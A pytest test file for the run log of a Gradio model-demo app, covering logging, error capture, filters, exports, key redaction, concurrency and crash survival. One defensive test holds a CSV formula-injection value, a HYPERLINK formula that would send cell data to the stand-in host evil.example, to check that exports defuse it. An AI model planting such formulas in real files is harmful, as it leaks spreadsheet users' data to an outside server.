"""The run log: a row for every tab's run, errors, filters, exports, concurrency, the off switch,
no key ever stored, and a database that survives a SIGKILL mid-write. The tests that take `db_url`
run twice: on SQLite (the embedded default) and on a real PostgreSQL (FMG_DATABASE_URL)."""

from __future__ import annotations

import csv
import json
import logging
import os
import pathlib
import signal
import sqlite3
import subprocess
import sys
import threading
import time

import gradio as gr
import numpy as np
import pytest
from PIL import Image

from adapters.errors import ProviderError
from adapters.types import Caption, Task
from demos import captioning, completion, embeddings_search, history, image_generation, zero_shot
from demos.widgets.standalone import standalone
from services import run_log
from tests.fakes.providers import FakeCaptioner

ROOT = pathlib.Path(__file__).resolve().parents[1]


SECRET = "sk-sess-Zq8vN3rT5wXyK2mB7hJ4"  # distinctive, so a byte search cannot miss it
TABS = (completion, zero_shot, captioning, image_generation, embeddings_search)


@pytest.fixture(autouse=True)
def log_path(tmp_path, monkeypatch) -> pathlib.Path:
    """Each test writes its own run log, in its own folder."""
    path = tmp_path / "log" / "runs.sqlite3"
    monkeypatch.setenv("FMG_RUN_LOG", str(path))
    return path


@pytest.fixture
def photo(tmp_path) -> str:
    path = tmp_path / "photo.png"
    Image.new("RGB", (40, 30), "green").save(path)
    return str(path)


def chat(message, api_key="", **kw):
    args = {"system": "", "max_tokens": 64, "temperature": 0.7, "top_p": 1.0, "seed": -1} | kw
    return list(
        completion.chat(
            message,
            [],
            "fake",
            api_key,
            args["system"],
            args["max_tokens"],
            args["temperature"],
            args["top_p"],
            args["seed"],
        )
    )


def run_every_tab(photo: str, api_key: str = "") -> None:
    chat("hello there", api_key=api_key, system="be brief", seed=5)
    zero_shot.classify(photo, "a dog, a cat", "fake", api_key)
    captioning.caption(photo, "a photo of", "fake", api_key)
    image_generation.generate("a fox", "", 2, 64, 72, 0.0, 7, "fake", api_key, progress=lambda *a, **k: None)
    embeddings_search.search("space rockets", "cats purr\n\nrockets fly to space", None, 1, 120, "fake", api_key)


def fake_result(i: int = 0) -> Caption:
    return Caption(text=f"caption {i}", provider="fake", model="fake-1", latency_s=0.01)


def integrity(path: pathlib.Path) -> str:
    """SQLite's own integrity check; on PostgreSQL (FMG_DATABASE_URL set) every row must read back whole."""
    run_log.flush()  # the rows of runs that have returned
    if os.environ.get("FMG_DATABASE_URL"):
        rows = run_log.query(limit=None)  # JSON columns decoded: a half-written row would fail here
        whole = all(r["id"] and r["created_at"] and isinstance(r["inputs"], dict) for r in rows)
        return "ok" if whole else "a run is incomplete"
    with sqlite3.connect(path) as conn:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]


# --- a row for every tab ---------------------------------------------------------------------------


def test_every_tab_logs_one_row_with_provider_model_timing_and_output(fake_provider, photo, log_path, db_url):
    run_every_tab(photo)
    runs = {r["tab"]: r for r in run_log.query()}
    assert set(runs) == {m.TAB for m in TABS}
    for r in runs.values():
        assert (r["provider"], r["model"], r["error"]) == ("fake", "fake-1", None)
        assert r["latency_s"] >= 0 and r["wall_s"] >= r["latency_s"]

    chat_run = runs["chat"]
    assert chat_run["task"] == Task.COMPLETION.value
    assert chat_run["inputs"] == {"message": "hello there", "history": [], "system": "be brief"}
    assert chat_run["params"] == {"max_tokens": 64, "temperature": 0.7, "top_p": 1.0, "seed": 5}
    assert chat_run["output"] == "echo: hello there"
    assert chat_run["ttft_s"] is not None and chat_run["output_tokens"] == 3

    scores = runs["zero-shot"]["output"]
    assert set(scores) == {"a dog", "a cat"} and abs(sum(scores.values()) - 1) < 1e-9
    assert runs["captioning"]["output"] == "a photo of a 40x30 image"
    assert runs["captioning"]["served_by"] == "fake-backend"

    generated = runs["image-generation"]
    assert generated["output"] == {"image": generated["image_path"], "width": 64, "height": 72, "seed": 7}
    with Image.open(log_path.parent / generated["image_path"]) as image:
        assert image.size == (64, 72)

    hits = runs["embeddings-search"]["output"]
    assert hits == [{"rank": 1, "score": hits[0]["score"], "source": "pasted text", "passage": "rockets fly to space"}]
    assert runs["embeddings-search"]["params"] == {"top_k": 1, "passage_words": 120, "rerank": False}


def test_uploaded_images_are_copied_into_the_log_folder_once(fake_provider, photo, log_path):
    zero_shot.classify(photo, "a dog, a cat", "fake", "")
    captioning.caption(photo, "", "fake", "")
    os.remove(photo)  # Gradio's upload files vanish: the log keeps its own copy
    stored = {r["inputs"]["image"] for r in run_log.query()}
    assert len(stored) == 1  # the same picture, kept once
    (relative,) = stored
    assert relative.startswith("uploads/") and run_log.open_image(relative).size == (40, 30)


def test_a_long_corpus_is_stored_cut_with_its_size_noted(fake_provider):
    corpus_text = "\n\n".join(f"passage number {i} about rockets" for i in range(3000))
    embeddings_search.search("rockets", corpus_text, None, 3, 120, "fake", "")
    stored = run_log.query()[0]["inputs"]["corpus"]
    assert len(stored) < run_log.MAX_CHARS + 100
    assert stored.startswith("passage number 0") and f"{len(corpus_text):,} characters in all" in stored


# --- errors ----------------------------------------------------------------------------------------


def test_failures_are_logged_with_the_message_the_user_saw(fake_provider, photo, db_url):
    with pytest.raises(gr.Error):
        chat("FAIL please")
    with pytest.raises(gr.Error):
        zero_shot.classify(photo, "only-one", "fake", "")
    with pytest.raises(gr.Error):
        captioning.caption(photo, "", "nobody", "")
    with pytest.raises(gr.Error):
        chat("")
    errors = {r["tab"] + ":" + r["error"] for r in run_log.query(errors_only=True)}
    assert any(e.startswith("chat:") and "server error" in e for e in errors)
    assert any(e.startswith("zero-shot:") and "at least two" in e for e in errors)
    assert any(e.startswith("captioning:") and "Unknown provider" in e for e in errors)
    assert any(e.startswith("chat:") and "prompt is empty" in e for e in errors)
    unknown = run_log.query(tab="captioning")[0]
    assert unknown["provider"] == "nobody" and unknown["model"] is None and unknown["output"] is None


def test_a_cut_stream_is_logged_once_with_what_arrived(fake_provider):
    chat("CUT here please")
    (row,) = run_log.query()
    assert row["output"] == "echo: CUT" and "cut off" in row["error"]


def test_a_cancelled_stream_is_logged_as_stopped(fake_provider):
    frames = completion.chat("a long enough message to stream", [], "fake", "", "", 64, 0.7, 1.0, -1)
    next(frames)
    frames.close()  # what Gradio does when the page goes away mid-stream
    (row,) = run_log.query()
    assert row["tab"] == "chat" and "Stopped before the end" in row["error"]


def test_unexpected_exceptions_are_logged_with_their_type(fake_provider, monkeypatch):
    monkeypatch.setattr(FakeCaptioner, "_caption", lambda self, image, prompt: 1 / 0)
    with pytest.raises(gr.Error):
        captioning.caption(Image.new("RGB", (8, 8)), "", "fake", "")
    assert run_log.query()[0]["error"].startswith("ZeroDivisionError")


# --- filters and exports ---------------------------------------------------------------------------


def test_query_filters_by_tab_provider_text_and_errors(fake_provider, photo, db_url):
    run_every_tab(photo)
    with pytest.raises(gr.Error):
        chat("FAIL now")
    assert len(run_log.query()) == 6
    assert {r["tab"] for r in run_log.query(tab="chat")} == {"chat"} and len(run_log.query(tab="chat")) == 2
    assert run_log.query(provider="nobody") == []
    assert [r["tab"] for r in run_log.query(text="ROCKETS")] == ["embeddings-search"]  # case-insensitive
    assert run_log.query(text="100%_") == []  # LIKE wildcards are escaped
    assert [r["error"] is not None for r in run_log.query(errors_only=True)] == [True]
    assert len(run_log.query(limit=2)) == 2
    newest = run_log.query()
    assert [r["created_at"] for r in newest] == sorted((r["created_at"] for r in newest), reverse=True)
    assert run_log.get(newest[0]["id"]) == newest[0] and run_log.get("no-such-id") is None


def read_csv(path: pathlib.Path, db: pathlib.Path) -> list[dict]:
    """Rows of an exported CSV with their SQL types restored (JSON columns decoded, '' as NULL);
    the types are the table's, as SQLAlchemy declares it for both engines."""
    from services.run_log.schema import runs

    types = {column.name: column.type.python_type for column in runs.columns}
    with open(path, newline="", encoding="utf-8") as f:
        return [
            {
                c: None if v == "" else json.loads(v) if c in run_log.JSON_COLUMNS else types[c](v)
                for c, v in row.items()
            }
            for row in csv.DictReader(f)
        ]


def test_csv_and_jsonl_exports_round_trip(fake_provider, photo, tmp_path, log_path, db_url):
    run_every_tab(photo)
    with pytest.raises(gr.Error):
        chat('FAIL with "quotes", commas\nand a newline, ünïcode ✓')
    everything = run_log.query(limit=None)
    assert run_log.export_csv(tmp_path / "runs.csv") == len(everything) == 6
    assert read_csv(tmp_path / "runs.csv", log_path) == everything
    assert run_log.export_jsonl(tmp_path / "runs.jsonl") == 6
    lines = (tmp_path / "runs.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == everything


def test_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(fake_provider, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1, "click")'  # e.g. an API caller's provider name
    with pytest.raises(gr.Error):
        list(completion.chat("hello", [], formula, "", "", 64, 0.7, 1.0, -1))
    chat("-1 is the answer")
    run_log.export_csv(tmp_path / "runs.csv")
    with open(tmp_path / "runs.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {row["provider"] for row in rows} == {"'" + formula, "fake"}
    assert {row["output"] for row in rows} == {"", json.dumps("echo: -1 is the answer")}  # no formula: as it was
    assert run_log.csv_cell("-2") == "'-2" and run_log.csv_cell(-2) == -2 and run_log.csv_cell("a=b") == "a=b"


def test_export_endpoint_writes_a_file_gradio_may_serve(fake_provider, photo):
    run_every_tab(photo)
    path = pathlib.Path(history.export("JSONL"))
    assert path.suffix == ".jsonl" and len(path.read_text().splitlines()) == 5
    with pytest.raises(gr.Error, match="CSV or JSONL"):
        history.export("XML")


def test_history_table_rows_and_previews(fake_provider, photo, db_url):
    run_every_tab(photo)
    rows = {r[1]: dict(zip(history.COLUMNS, r, strict=False)) for r in history.history("", "", "", False)}
    assert set(rows) == {m.TAB for m in TABS}
    assert rows["chat"]["input"] == "hello there" and rows["chat"]["output"] == "echo: hello there"
    assert rows["chat"]["tokens"] == "4 / 3"
    assert rows["image-generation"]["output"] == "image 64x72 · seed 7"
    assert rows["zero-shot"]["input"] == "[image] a dog, a cat"
    assert rows["zero-shot"]["output"].startswith(("a dog (", "a cat ("))
    assert rows["embeddings-search"]["output"] == "rockets fly to space"
    record, image, program = history.detail(rows["image-generation"]["id"])
    assert record["tab"] == "image-generation" and image.size == (64, 72)
    assert program.startswith("# No Python snippet is available")  # the fake provider has no SDK
    assert history.history("chat", "", "", True) == []


# --- re-opening a run ------------------------------------------------------------------------------


def test_every_tab_reopens_its_inputs_and_parameters(fake_provider, photo):
    run_every_tab(photo)
    runs = {r["tab"]: r for r in run_log.query()}
    targets = {m.TAB: (m.reopen, standalone(m).reopen_inputs) for m in TABS}
    for tab, (reopen, components) in targets.items():
        assert len(reopen(runs[tab])) == len(components), tab

    assert completion.reopen(runs["chat"]) == ["hello there", [], "fake", "be brief", 64, 0.7, 1.0, 5]
    image, labels, provider = zero_shot.reopen(runs["zero-shot"])
    assert image.size == (40, 30) and (labels, provider) == ("a dog, a cat", "fake")
    assert captioning.reopen(runs["captioning"])[1:] == ["a photo of", "fake"]
    *generation, edit_image = image_generation.reopen(runs["image-generation"])
    assert generation == ["a fox", "", 2, 64, 72, 0.0, 7, "fake"] and edit_image == gr.skip()
    assert embeddings_search.reopen(runs["embeddings-search"]) == [
        "space rockets",
        "cats purr\n\nrockets fly to space",
        None,
        1,
        120,
        "fake",
        False,
    ]

    switch, *values = history.open_in_tab(runs["captioning"]["id"], targets)
    assert switch.selected == "captioning"
    skipped = [v for v in values if v == gr.skip()]
    assert len(values) == sum(len(c) for _, c in targets.values())
    assert len(skipped) == len(values) - len(targets["captioning"][1])


def test_image_generation_reopens_with_the_seed_it_used(fake_provider):
    image_generation.generate("a fox", "", 1, 64, 64, 0.0, -1, "fake", "", progress=lambda *a, **k: None)
    run = run_log.query()[0]
    assert run["params"]["seed"] == -1 and run["output"]["seed"] >= 0
    assert image_generation.reopen(run)[6] == run["output"]["seed"]


# --- no key ever reaches the log -------------------------------------------------------------------


def test_a_session_key_appears_nowhere_in_the_database_or_exports(
    fake_provider, photo, tmp_path, log_path, monkeypatch
):
    env_key = "co-env-Hq3pL9sV6dWuR1nC"
    monkeypatch.setenv("CO_API_KEY", env_key)
    run_every_tab(photo, api_key=SECRET)
    chat(f"my key is {SECRET} and {env_key}", api_key=SECRET)  # pasted into a prompt, echoed back
    image_generation.generate(f"a fox {SECRET}", "", 1, 64, 64, 0.0, 1, "fake", SECRET, progress=lambda *a, **k: None)

    def leaky(self, image, prompt):
        raise ProviderError(f"Fake rejected the key {self.api_key}", provider="fake", status=401)

    monkeypatch.setattr(FakeCaptioner, "_caption", leaky)
    with pytest.raises(gr.Error):
        captioning.caption(photo, "", "fake", SECRET)
    assert len(run_log.query()) == 8
    assert any("rejected the key [redacted]" in (r["error"] or "") for r in run_log.query())

    run_log.export_csv(tmp_path / "runs.csv")
    run_log.export_jsonl(tmp_path / "runs.jsonl")
    files = [p for p in log_path.parent.rglob("*") if p.is_file()] + [tmp_path / "runs.csv", tmp_path / "runs.jsonl"]
    assert any(p.name.endswith("-wal") for p in files)  # the write-ahead log is searched too
    for path in files:
        data = path.read_bytes()
        for key in (SECRET, env_key):
            assert key.encode() not in data, path.name
            assert key.encode("utf-16-le") not in data, path.name


# --- the off switch, and failures that must not break a run ----------------------------------------


@pytest.mark.parametrize("value", ["off", "OFF", "0", "false"])
def test_the_off_switch_records_nothing(fake_provider, photo, log_path, monkeypatch, value):
    monkeypatch.setenv("FMG_RUN_LOG", value)
    run_every_tab(photo)
    assert run_log.location() is None and run_log.query() == [] and not log_path.parent.exists()
    assert "off" in history.where()
    with pytest.raises(gr.Error, match="off"):
        history.export("CSV")


def test_an_unwritable_log_only_warns(fake_provider, tmp_path, monkeypatch, caplog):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    monkeypatch.setenv("FMG_RUN_LOG", str(blocker / "runs.sqlite3"))
    with caplog.at_level(logging.WARNING, logger="fm_gallery.run_log"):
        text, _, _ = captioning.caption(Image.new("RGB", (8, 8)), "", "fake", "")
        run_log.flush()  # the row is written (and fails) on the writer's thread
    assert text == "a 8x8 image"
    assert "could not record" in caplog.text


def test_a_log_from_a_newer_version_is_left_alone(fake_provider, log_path, caplog):
    log_path.parent.mkdir(parents=True)
    with sqlite3.connect(log_path) as conn:
        conn.execute(f"PRAGMA user_version = {run_log.SCHEMA_VERSION + 1}")
    with caplog.at_level(logging.WARNING, logger="fm_gallery.run_log"):
        text, _, _ = captioning.caption(Image.new("RGB", (8, 8)), "", "fake", "")
        run_log.flush()
    assert text == "a 8x8 image" and "newer" not in text
    assert "schema" in caplog.text
    with sqlite3.connect(log_path) as conn:
        assert conn.execute("SELECT count(*) FROM sqlite_master WHERE name = 'runs'").fetchone()[0] == 0


def test_the_schema_and_journal_mode(log_path):
    with run_log.run(tab="chat", task=Task.COMPLETION, provider="fake") as run:
        run.done(fake_result())
    run_log.flush()
    with sqlite3.connect(log_path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA user_version").fetchone()[0] == run_log.SCHEMA_VERSION
        columns = [row[1] for row in conn.execute("PRAGMA table_info(runs)")]
    # `seq` orders the rows (SQLite's rowid before) and `comparison_id` hides blind runs (a JSON
    # lookup into params before): the table's own, not what a reader or an export gets
    assert tuple(columns) == ("seq", *run_log.COLUMNS, "comparison_id")


# --- concurrency and crashes -----------------------------------------------------------------------


def test_concurrent_writers_lose_nothing(log_path, db_url):
    threads, per_thread, failures = 8, 50, []

    def write(t: int) -> None:
        try:
            for i in range(per_thread):
                with run_log.run(
                    tab="captioning", task=Task.CAPTIONING, provider="fake", inputs={"writer": t, "i": i}
                ) as run:
                    run.done(fake_result(i), output=f"{t}-{i}")
        except Exception as err:  # noqa: BLE001  # pragma: no cover - reported below
            failures.append(err)

    workers = [threading.Thread(target=write, args=(t,)) for t in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    assert failures == []
    outputs = {r["output"] for r in run_log.query(limit=None)}
    assert outputs == {f"{t}-{i}" for t in range(threads) for i in range(per_thread)}
    assert integrity(log_path) == "ok"


def test_a_run_returns_without_waiting_for_the_log_and_readers_wait_for_its_row(log_path):
    """Another writer holds the database's write lock: the run still returns at once (its row
    queued), a raw read does not see the row yet, and once the lock goes the row is there."""
    with run_log.run(tab="chat", task=Task.COMPLETION, provider="fake") as run:
        run.done(fake_result())
    run_log.flush()  # the log exists, in WAL mode
    holder = sqlite3.connect(log_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # as a second process mid-write would
    try:
        with run_log.run(tab="chat", task=Task.COMPLETION, provider="fake") as blocked:
            blocked.done(fake_result(1))
        with sqlite3.connect(log_path) as reader:  # WAL: a reader is never blocked by the writer
            assert reader.execute("SELECT count(*) FROM runs WHERE id = ?", (blocked.id,)).fetchone()[0] == 0
        assert run_log.flush(timeout=0.2) is False  # the row waits on the lock, not the run
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert run_log.get(blocked.id) is not None  # get() waits for the rows of runs that returned


def test_rows_still_queued_at_a_normal_exit_are_written(log_path):
    """The child's rows wait behind a write lock it holds itself, which it lets go just before it
    exits: without the exit-time flush the writer would still be waiting when the process ends."""
    code = (
        "import os, sqlite3\nfrom adapters.types import Caption\nfrom services import run_log\n"
        "with run_log.run(tab='captioning', task='captioning', provider='fake', inputs={'i': -1}) as r:\n"
        "    pass\n"
        "run_log.flush()\n"  # the log exists
        "holder = sqlite3.connect(os.environ['FMG_RUN_LOG'], isolation_level=None)\n"
        "holder.execute('BEGIN IMMEDIATE')\n"
        "for i in range(50):\n"
        "    with run_log.run(tab='captioning', task='captioning', provider='fake', inputs={'i': i}) as r:\n"
        "        r.done(Caption(text='c', provider='fake', model='m', latency_s=0.0), output=i)\n"
        "assert not run_log.flush(timeout=0.3)\n"  # queued, behind the lock
        "holder.execute('ROLLBACK')\n"
        "holder.close()\n"
    )  # and exits at once, without reading anything back
    subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=os.environ | {"PYTHONPATH": str(ROOT)}, check=True, timeout=60
    )
    assert sorted(r["output"] for r in run_log.query(limit=None) if r["output"] is not None) == list(range(50))


WRITER = """
import sys
from PIL import Image
from adapters.types import Caption, GeneratedImages
from services import run_log

i = 0
while True:
    if i % 4 == 0:
        result = GeneratedImages(images=(), seed=i, provider="fake", model="fake-1", latency_s=0.0)
        output = Image.new("RGB", (64, 64), (i % 256, 0, 0))
    else:
        result = Caption(text="x", provider="fake", model="fake-1", latency_s=0.0)
        output = "x" * 5000 + str(i)
    with run_log.run(tab="captioning", task="captioning", provider="fake", inputs={"i": i}) as run:
        run.done(result, output=output)
    run_log.flush()
    print(run.id, flush=True)  # printed only once its row is committed
    i += 1
"""


def test_a_killed_writer_leaves_a_sound_database_with_every_committed_row(log_path, db_url):
    committed = []
    for round_ in range(3):  # each round reopens what the previous kill left
        proc = subprocess.Popen(
            [sys.executable, "-c", WRITER],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            text=True,
            env=os.environ | {"PYTHONPATH": str(ROOT)},
        )
        try:
            target = len(committed) + 60 + 17 * round_
            while len(committed) < target:
                line = proc.stdout.readline()
                assert line, "the writer died on its own"
                committed.append(line.strip())
            proc.send_signal(signal.SIGKILL)  # mid-run: it keeps writing until the signal lands
            proc.wait(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
            proc.stdout.close()
        assert proc.returncode == -signal.SIGKILL

        assert integrity(log_path) == "ok"
        # no half-written row: every row the kill left, answered or not, is whole (the writer gives each an output)
        assert all(r["output"] is not None and r["wall_s"] is not None for r in run_log.query(limit=None))
        for run_id in committed:
            row = run_log.get(run_id)
            assert row is not None, run_id
            if row["image_path"]:
                assert run_log.open_image(row["image_path"]).size == (64, 64)
    assert len(run_log.query(limit=None)) >= len(committed)


def test_writes_from_a_second_process_meanwhile(log_path, db_url):
    """Two processes append at once (e.g. two app workers): both see every row."""
    code = (
        "from adapters.types import Caption\nfrom services import run_log\n"
        "for i in range(100):\n"
        "    with run_log.run(tab='captioning', task='captioning', provider='fake', inputs={'p': 'child'}) as r:\n"
        "        r.done(Caption(text='c', provider='fake', model='m', latency_s=0.0), output=i)\n"
    )
    child = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, env=os.environ | {"PYTHONPATH": str(ROOT)})
    started = time.monotonic()
    for i in range(100):
        with run_log.run(tab="captioning", task="captioning", provider="fake", inputs={"p": "parent"}) as run:
            run.done(fake_result(i), output=i)
    assert child.wait(timeout=60) == 0 and time.monotonic() - started < 60
    runs = run_log.query(limit=None)
    assert sorted(r["inputs"]["p"] for r in runs) == ["child"] * 100 + ["parent"] * 100
    assert integrity(log_path) == "ok"


# --- image files within their budget ---------------------------------------------------------------


def noise(seed: int, side: int = 64) -> Image.Image:
    """A picture PNG cannot compress: its file is about side * side * 3 bytes."""
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, (side, side, 3), dtype=np.uint8))


def image_files(log_path: pathlib.Path) -> list[pathlib.Path]:
    return [
        p
        for sub in ("images", "uploads")
        if (log_path.parent / sub).exists()
        for p in (log_path.parent / sub).iterdir()
    ]


def record(i: int, upload: Image.Image | None = None) -> dict:
    """One image-generation run whose output is noise(i), with `upload` among its inputs."""
    inputs = {"image": run_log.Upload(upload)} if upload is not None else {}
    with run_log.run(tab="image-generation", task=Task.IMAGE_GENERATION, provider="fake", inputs=inputs) as run:
        run.done(fake_result(i), output=noise(i))
    time.sleep(0.02)  # distinct modification times
    return run_log.get(run.id)


def test_image_files_stay_within_their_budget_oldest_first(log_path, monkeypatch):
    from services.run_log import image_budget

    monkeypatch.setattr(image_budget, "_totals", {})
    one = len(noise(0).tobytes())  # a PNG of noise(i) is a little over this
    monkeypatch.setenv("FMG_RUN_LOG_IMAGES_MB", str(3.5 * one / 2**20))  # room for three files, not four
    photo = noise(100)
    runs = [record(0, upload=photo), record(1), record(2, upload=photo), record(3)]
    # four runs wrote five files: o0, K (the upload), o1, o2 (K used again: touched), o3
    assert len(image_files(log_path)) == 3
    assert [run_log.open_image(run["image_path"]) is not None for run in runs] == [False, False, True, True]
    assert run_log.open_image(runs[2]["inputs"]["image"]) is not None  # touched at run 2, it outlived o1
    assert len(run_log.query()) == 4  # the runs themselves all stay
    for i in range(4, 12):
        record(i, upload=noise(1000 + i))
        assert sum(p.stat().st_size for p in image_files(log_path)) <= 3.5 * one
    assert run_log.open_image(run_log.query()[0]["image_path"]).size == (64, 64)


def test_an_image_budget_of_zero_keeps_everything(log_path, monkeypatch):
    monkeypatch.setenv("FMG_RUN_LOG_IMAGES_MB", "0")
    for i in range(4):
        with run_log.run(tab="image-generation", task=Task.IMAGE_GENERATION, provider="fake") as run:
            run.done(fake_result(i), output=noise(i))
    assert len(image_files(log_path)) == 4
